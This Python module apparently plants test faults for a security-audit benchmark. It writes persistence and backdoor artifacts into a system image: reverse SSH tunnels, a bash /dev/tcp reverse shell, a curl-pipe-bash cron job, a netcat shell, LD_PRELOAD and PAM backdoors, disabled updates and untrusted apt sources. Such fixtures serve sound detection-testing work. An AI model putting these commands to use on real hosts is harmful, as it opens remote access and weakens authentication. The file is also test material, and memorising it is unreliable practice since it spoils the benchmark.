"""Faults that let somebody in from outside: tunnels, private networks, agents, preloads, PAM."""

from __future__ import annotations

from bench.certify.made_up import elf, word
from bench.certify.planting import Fault, Link, Remove, Swap, Write


def _start(name: str, path: str, content: str, mode: int = 0o644) -> Fault:
    return Fault(name, "TUN-01", (Write(path, content, mode),))


_PAM = "/usr/lib/x86_64-linux-gnu/security/"
FAULTS = (
    _start(
        "reverse-ssh-unit",
        "/etc/systemd/system/support.service",
        "[Service]\nExecStart=/usr/bin/ssh -N -T -R 2222:localhost:22 help@vendor.example\n",
    ),
    _start("autossh-cron", "/etc/cron.d/keep", "@reboot root autossh -M 0 -f -N vendor\n"),
    _start(
        "frpc-rc-local",
        "/etc/rc.local",
        "#!/bin/sh\n/opt/frp/frpc -c /opt/frp/frpc.toml &\n",
        0o755,
    ),
    _start("bash-tcp-profile", "/root/.bashrc", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 &\n"),
    _start(
        "curl-pipe-cron",
        "/var/spool/cron/crontabs/root",
        "*/5 * * * * curl -fsSL https://vendor.example/run | bash\n",
        0o600,
    ),
    Fault(
        "tunnel-in-script",
        "TUN-01",
        (
            Write(
                "/etc/systemd/system/helper.service",
                "[Service]\nExecStart=/opt/vendor/bin/helper\n",
            ),
            Write(
                "/opt/vendor/bin/helper",
                "#!/bin/sh\nexec ssh -f -N \\\n  -R 0:127.0.0.1:22 v@x\n",
                0o755,
            ),
        ),
    ),
    _start("netcat-shell", "/etc/cron.hourly/sync", "#!/bin/sh\nnc -lp 9001 -e /bin/sh\n", 0o755),
    _start(
        "cloudflared-user-unit",
        "/root/.config/systemd/user/web.service",
        "[Service]\nExecStart=%h/bin/cloudflared tunnel run --token x\n",
    ),
    Fault("ngrok-program", "TUN-02", (Write("/usr/local/bin/ngrok", elf(), 0o755),)),
    Fault("tailscale-program", "TUN-02", (Write("/usr/sbin/tailscaled", elf(), 0o755),)),
    Fault(
        "wireguard-network",
        "TUN-03",
        (Write("/etc/wireguard/vendor.conf", "[Peer]\nEndpoint = vendor.example:51820\n", 0o600),),
    ),
    Fault(
        "openvpn-client",
        "TUN-03",
        (Write("/etc/openvpn/client/vendor.conf", "client\nremote vendor.example 1194\n", 0o600),),
    ),
    Fault(
        "zerotier-identity",
        "TUN-03",
        (Write("/var/lib/zerotier-one/networks.d/8056c2e21c.conf", "x=1\n", 0o600),),
    ),
    Fault("do-agent", "AGT-NO", (Write("/opt/digitalocean/bin/do-agent", elf(), 0o755),)),
    Fault("salt-minion", "AGT-NO", (Write("/usr/bin/salt-minion", "#!/usr/bin/python3\n", 0o755),)),
    Fault("teamviewer", "AGT-NO", (Write("/opt/teamviewer/tv_bin/teamviewerd", elf(), 0o755),)),
    Fault("datadog", "AGT-NO", (Write("/opt/datadog-agent/bin/agent/agent", elf(), 0o755),)),
    Fault("ld-so-preload", "LOAD-01", (Write("/etc/ld.so.preload", "/usr/local/lib/libx.so\n"),)),
    Fault(
        "preload-in-environment",
        "LOAD-01",
        (Write("/etc/environment", 'LD_PRELOAD="/usr/local/lib/x.so"\n'),),
    ),
    Fault(
        "preload-in-unit",
        "LOAD-01",
        (
            Write(
                "/etc/systemd/system/shop.service.d/x.conf",
                "[Service]\nEnvironment=LD_PRELOAD=/opt/x.so\n",
            ),
        ),
    ),
    Fault(
        "path-with-tmp", "LOAD-02", (Write("/etc/profile.d/paths.sh", "export PATH=/tmp:$PATH\n"),)
    ),
    Fault(
        "pam-module",
        "LOAD-03",
        (
            Write(_PAM + "pam_helper.so", elf()),
            Write("/etc/pam.d/sshd", "auth optional pam_helper.so\n", append=True),
        ),
    ),
    Fault(
        "pam-exec",
        "LOAD-03",
        (Write("/etc/pam.d/sshd", "session optional pam_exec.so /opt/x/on-login\n", append=True),),
    ),
    Fault(
        "pam-permit",
        "LOAD-03",
        (Write("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", append=True),),
    ),
    Fault(
        "pam-replaced",
        "LOAD-03",
        (
            Write("/lib/evil/pam_unix.so", elf()),
            Write("/etc/pam.d/login", "auth required /opt/pam/pam_unix.so\n"),
            Write("/opt/pam/pam_unix.so", word(3)),
            Remove("/lib/evil/pam_unix.so"),
        ),
    ),
    Fault(
        "no-periodic",
        "UPD-02",
        (Swap("/etc/apt/apt.conf.d/20auto-upgrades", 'Upgrade "1"', 'Upgrade "0"'),),
    ),
    Fault(
        "updates-masked",
        "UPD-02",
        (Link("/etc/systemd/system/apt-daily-upgrade.timer", "/dev/null"),),
    ),
    Fault(
        "no-security-origin",
        "UPD-02",
        (
            Write(
                "/etc/apt/apt.conf.d/50unattended-upgrades",
                'Unattended-Upgrade::Origins-Pattern { "origin=Debian,label=Debian"; };\n',
            ),
        ),
    ),
    Fault(
        "held-package",
        "UPD-03",
        (
            Write(
                "/var/lib/dpkg/status",
                "\nPackage: openssl\nStatus: hold ok installed\n",
                append=True,
            ),
        ),
    ),
    Fault(
        "pinned-security",
        "UPD-03",
        (
            Write(
                "/etc/apt/preferences.d/no",
                "Package: *\nPin: release a=stable-security\nPin-Priority: -1\n",
            ),
        ),
    ),
    Fault(
        "apt-trusted",
        "APT-01",
        (Write("/etc/apt/sources.list.d/v.list", "deb [trusted=yes] http://v.example/ ./\n"),),
    ),
    Fault(
        "apt-trusted-deb822",
        "APT-01",
        (
            Write(
                "/etc/apt/sources.list.d/v.sources",
                "Types: deb\nURIs: https://v.example/\nSuites: ./\nTrusted: yes\n",
            ),
        ),
    ),
    Fault(
        "apt-unauthenticated",
        "APT-01",
        (Write("/etc/apt/apt.conf.d/99x", 'APT { Get { AllowUnauthenticated "true"; }; };\n'),),
    ),
    Fault(
        "apt-no-tls-check",
        "APT-01",
        (Write("/etc/apt/apt.conf.d/99tls", 'Acquire::https::v.example::Verify-Peer "false";\n'),),
    ),
    Fault(
        "apt-foreign-key",
        "APT-02",
        (Write("/etc/apt/trusted.gpg.d/vendor.gpg", b"\x99\x01" + b"v" * 600),),
    ),
    Fault("apt-old-ring", "APT-02", (Write("/etc/apt/trusted.gpg", b"\x99\x01" + b"v" * 2400),)),
    Fault(
        "apt-proxy",
        "APT-03",
        (Write("/etc/apt/apt.conf.d/00proxy", 'Acquire::http::Proxy "http://10.0.2.2:3142";\n'),),
    ),
    Fault(
        "apt-auth",
        "APT-03",
        (
            Write(
                "/etc/apt/auth.conf.d/v.conf",
                f"machine v.example login x password {word(12)}\n",
                0o600,
            ),
        ),
    ),
    Fault(
        "apt-local-source",
        "APT-03",
        (
            Write(
                "/etc/apt/sources.list.d/b.list",
                "deb [signed-by=/x] http://10.1.2.3/debian bookworm main\n",
            ),
        ),
    ),
    Fault(
        "apt-login-in-source",
        "APT-03",
        (
            Write(
                "/etc/apt/sources.list.d/c.list", f"deb https://ci:{word(12)}@v.example/ x main\n"
            ),
        ),
    ),
)
